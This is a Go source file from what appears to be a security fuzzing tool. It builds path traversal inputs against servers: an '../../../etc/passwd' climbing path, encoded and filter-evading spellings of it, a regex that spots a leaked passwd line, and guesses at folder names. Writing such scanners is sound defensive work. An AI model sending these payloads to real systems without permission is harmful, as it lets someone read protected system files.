package inputs

import (
	"regexp"
	"slices"
	"strings"

	"sealab/fuzz/review"
)

// PathNames are parts of names of arguments that name files.
var PathNames = []string{"path", "file", "doc", "page", "name"}

// ClimbingPath is a path out of a folder.
const ClimbingPath = "../../../../../../../../etc/passwd"

// PathSpellings returns spellings of a path that path filters may miss.
func PathSpellings(path string) []string {
	encoded := strings.NewReplacer("/", "%2F", ".", "%2e").Replace(path)
	return []string{path, strings.ReplaceAll(path, "/", "%2F"), "/etc/passwd", encoded, strings.ReplaceAll(encoded, "%", "%25"),
		strings.ReplaceAll(path, "../", "....//"), strings.ReplaceAll(path, "../", "..././"), strings.ReplaceAll(path, "../", `....\/`),
		strings.ReplaceAll(path, "../", `..\`), strings.ReplaceAll(path, "../", "..;/"), "//etc/passwd", "sealab/../" + path}
}

// PasswdLine matches the first line of /etc/passwd.
var PasswdLine = regexp.MustCompile(`root:[^:\n]*:0:0:`)

// folderNames are usual names of folders that a server serves.
var folderNames = []string{"docs", "data", "public", "files", "notes", "pages", "content", "documents", "static", "shared", "root", "workspace"}

// folderWord matches words that may be the name of a folder.
var folderWord = regexp.MustCompile(`[a-z][\w-]{2,}`)

// maxFolders is the number of folders that Folders returns.
const maxFolders = 24

// Folders returns words in the texts about the offers of a server, and usual names of folders.
func Folders(t *review.T) []string {
	about := ""
	s := t.Report.Server
	for _, o := range slices.Concat(s.Tools, s.Resources) {
		about += o.Name + " " + o.URI + " " + o.Description + "\n"
	}
	all := slices.Clone(folderNames)
	for _, word := range folderWord.FindAllString(about, -1) {
		if !slices.Contains(all, word) {
			all = append(all, word)
		}
	}
	return all[:min(len(all), maxFolders)]
}
